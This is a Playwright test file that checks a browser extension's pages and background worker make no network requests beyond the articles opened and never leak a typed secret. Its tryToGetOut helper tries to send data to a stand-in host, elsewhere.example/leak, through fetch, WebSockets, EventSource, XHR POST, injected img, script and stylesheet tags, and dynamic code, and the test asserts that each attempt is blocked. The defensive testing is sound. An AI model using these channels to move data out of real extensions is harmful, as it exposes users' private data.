import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { WxtBrowser } from 'wxt/browser'
import { ARTICLES, IRRELEVANT, UNCURATED } from './articles.ts'
import { ArticlePage } from './support/article-page.ts'
import { type ExtensionBrowser, openExtensionBrowser } from './support/browser.ts'
import { readTraffic } from './support/net-log.ts'
import { openPopup, openSidePanel } from './support/popup.ts'
import { expect, test } from './support/test.ts'

/** In the service worker and in pages of ours. */
declare const chrome: WxtBrowser

/** Words that nobody but the reader has typed; where they turn up, they were sent. */
const SECRET = 'zephyrquill'
/** What the browser is made to ask for, so that it is sure that the log would tell. */
const CONTROL = 'https://control.example/asked-by-a-page'

test('through every surface, no request but those of the pages that were opened', async ({ news }) => {
  test.slow()
  const folder = await mkdtemp(join(tmpdir(), 'hashiya-net-'))
  const netLog = join(folder, 'log.json')
  const before = news.requests.length
  try {
    const extension = await openExtensionBrowser({ port: news.port, args: [`--log-net-log=${netLog}`] })
    try {
      await readArticles(extension)
      await useSurfaces(extension)
      await seeOwnPages(extension)
      const page = await extension.context.newPage()
      await page.goto(IRRELEVANT[1] as string)
      await page.evaluate((address) => fetch(address, { mode: 'no-cors' }).then(() => {}), CONTROL)
    } finally {
      await extension.close()
    }
    const opened = [ARTICLES.en.url, ARTICLES.ar.url, UNCURATED, IRRELEVANT[1] as string]
    const expected = [...opened, ...opened.map((url) => new URL('site.css', url).href), CONTROL]
    const { addresses, hosts } = await readTraffic(netLog)
    expect(addresses).toEqual([...new Set(expected)].sort())
    expect(hosts).toEqual([...new Set(expected.map((url) => new URL(url).host))].sort())
    const asked = new Set(news.requests.slice(before))
    expect([...asked].sort()).toEqual(
      [...new Set(expected.map((url) => url.slice('https://'.length)))].sort(),
    )
    expect(JSON.stringify([addresses, hosts])).not.toContain(SECRET)
  } finally {
    await rm(folder, { recursive: true, force: true })
  }
})

/** Both articles, with cards, from the card on to the record, and one more on a site of no list. */
async function readArticles(extension: ExtensionBrowser) {
  for (const { url } of [ARTICLES.en, ARTICLES.ar]) {
    const page = await extension.context.newPage()
    const article = new ArticlePage(page, extension)
    await page.goto(url)
    await article.waitForMarks()
    await article.lookIntoCard()
    await article.clickMark()
    await expect(article.card).toBeVisible()
    await expect.poll(() => article.badge()).toMatchObject({ text: /^\d+$/ })
    await article.command('next-mention')
    await expect(article.card).toBeVisible()
    await article.command('toggle')
    await expect.poll(() => article.marks()).toEqual([])
    await article.command('toggle')
    await article.waitForMarks()
  }
}

async function useSurfaces(extension: ExtensionBrowser) {
  const page = await extension.context.newPage()
  await page.goto(UNCURATED)
  const popup = await openPopup(extension, page)
  await popup.shows(/Annotate this page/)
  await popup.click('button', 'Annotate this page')
  await popup.shows(/speak/)
  await popup.click('[role=tab]:nth-of-type(2)')
  await popup.type('input[type=search]', SECRET)
  await expect.poll(() => popup.evaluate("document.querySelector('input[type=search]').value")).toBe(SECRET)
  await expect.poll(() => popup.texts('[data-claim]')).toEqual([])
  await popup.close()
  const panel = await openSidePanel(extension, page)
  await panel.shows(/speak/)
  await panel.click('.rows .row')
  await panel.close()
  await extension.worker.evaluate(async (text) => {
    type Dispatch = { dispatch(...args: unknown[]): void }
    const [tab] = await chrome.tabs.query({ active: true })
    const { onClicked } = chrome.contextMenus as unknown as { onClicked: Dispatch }
    onClicked.dispatch({ menuItemId: 'look-up', selectionText: text }, tab)
    await new Promise((resolve) => {
      const { onInputChanged } = chrome.omnibox as unknown as { onInputChanged: Dispatch }
      onInputChanged.dispatch('timetable', resolve)
    })
  }, SECRET)
}

/** Every page of the package. */
const OWN_PAGES = ['welcome', 'options', 'dossier', 'popup', 'sidepanel']

async function seeOwnPages({ context, extensionId }: ExtensionBrowser) {
  for (const name of OWN_PAGES) {
    const page = await context.newPage()
    const problems: string[] = []
    page.on('console', (message) => message.type() === 'error' && problems.push(message.text()))
    await page.goto(`chrome-extension://${extensionId}/${name}.html`)
    await expect.poll(() => page.evaluate(() => document.body.innerText.length)).toBeGreaterThan(20)
    expect(problems, name).toEqual([])
    await page.close()
  }
}

test('no page of ours, nor the background, gets out even where something in it tried', async ({
  extension,
  news,
  page,
}) => {
  const before = news.requests.length
  const tried = async (send: (address: string) => Promise<string[]>) =>
    expect(await send('https://elsewhere.example/leak')).toEqual([])
  for (const name of OWN_PAGES) {
    await page.goto(`chrome-extension://${extension.extensionId}/${name}.html`)
    await tried((address) => page.evaluate(tryToGetOut, address))
  }
  await tried((address) => extension.worker.evaluate(tryToGetOut, address))
  expect(news.requests.slice(before)).toEqual([])
})

/** The ways out that have worked. Runs in a page or a worker of the extension. */
async function tryToGetOut(address: string): Promise<string[]> {
  const loads = (tag: string, field: string) => () =>
    new Promise((resolve, reject) => {
      const element = Object.assign(document.createElement(tag), { [field]: address })
      element.onload = resolve
      element.onerror = reject
      document.body.append(element)
    })
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(address, { mode: 'no-cors' }),
    socket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(address.replace('https', 'wss'))
        socket.onopen = resolve
        socket.onerror = reject
      }),
    events: () =>
      new Promise((resolve, reject) => {
        const source = new EventSource(address)
        source.onopen = resolve
        source.onerror = reject
      }),
    ...(typeof document === 'object' && {
      request: () =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest()
          request.open('POST', address)
          request.onload = resolve
          request.onerror = reject
          request.send('leak')
        }),
      picture: loads('img', 'src'),
      script: loads('script', 'src'),
      sheet: () => {
        const link = document.createElement('link')
        link.rel = 'stylesheet'
        link.href = address
        return new Promise((resolve, reject) => {
          link.onload = resolve
          link.onerror = reject
          document.head.append(link)
        })
      },
      // Not in the turn of the test's own call, to which the tools give more than the policy does.
      code: () => new Promise((resolve) => setTimeout(resolve)).then(() => new Function('return 1')()),
    }),
  }
  const results = await Promise.allSettled(Object.values(ways).map(async (way) => way()))
  return Object.keys(ways).filter((_, index) => results[index]?.status === 'fulfilled')
}
